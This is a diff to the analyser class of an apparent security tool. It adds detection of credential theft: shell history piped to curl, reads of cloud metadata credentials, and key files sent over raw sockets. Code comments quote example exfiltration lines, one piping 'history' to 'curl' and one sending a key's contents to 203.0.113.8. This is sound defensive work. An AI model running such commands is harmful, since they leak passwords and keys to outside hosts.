@@ -1106,6 +1106,18 @@ class Analyser:
                 return path
         if w.program in ("pg_dump", "mysqldump", "mongodump", "pg_dumpall"):
             return w.text
+        if w.program in self.table.secret_outputs and not any(a.startswith("-") for a in w.low):
+            return w.text  # `history | curl -d @- …`: what was typed, passwords included
+        meta = self.table.metadata_credentials
+        if any(m in a for a in w.low for m in meta):
+            self.out.add(
+                Effect(
+                    "read_secret",
+                    "",
+                    describe("reads the instance's cloud credentials", "", False, w.text),
+                )
+            )
+            return w.text
         return ""
 
     def _local_sinks(self, prog: str, argv: list[str], w: Words, j: Judged, c: Cmd) -> None:
@@ -1761,6 +1773,12 @@ class Analyser:
             emails = [x for x in strings if _EMAIL.fullmatch(x.strip())]
             if emails:
                 send_dest = emails[-1]
+        if socket and not send_dest and secret_read:
+            # `socket.create_connection(("203.0.113.8", 443)); s.send(open(key).read())`
+            if any(c.name.lower() in _SOCKET_SEND for c in sn.calls):
+                m = _CONNECT_TO.search(text)
+                if m is not None:
+                    send_dest = f"tcp://{m.group(1)}"
         if socket and (shell_bound or runs_dynamic):
             self.out.add(
                 Effect(
@@ -2248,6 +2266,14 @@ _USER_NAME = re.compile(r"[a-z_][a-z0-9_-]{0,31}")
 
 # a single line: a program-shaped first word, then a flag (`-x`, `--name`) somewhere
 _FLAGGED_LINE = re.compile(r"[a-z][\w.-]{1,40}[ \t][^\n]{0,400}?(?<=\s)--?[a-z][^\n]{0,400}$")
+
+_SOCKET_SEND = frozenset({"send", "sendall", "sendto", "write", "sendfile", "end"})
+# the host a socket connects to: `create_connection(("h", 443))`, `connect(("h", 443))`,
+# Node's `net.connect(443, "h")`
+_CONNECT_TO = re.compile(
+    r"\b(?:create_connection|connect|connect_ex|createConnection)\(\s*(?:\(\s*|\d{1,5}\s*,\s*)"
+    r"[\"']([A-Za-z0-9.-]{1,253})[\"']"
+)
 
 _NEW_ARRAY = re.compile(r"\bnew\s+[Ss]tring\s*\[\s*\]\s*\{([^{}()]{0,4096})\}")
 _RAW_ARGS_SHELLS = frozenset({"cmd", "cmd.exe", "powershell", "powershell.exe", "pwsh"})
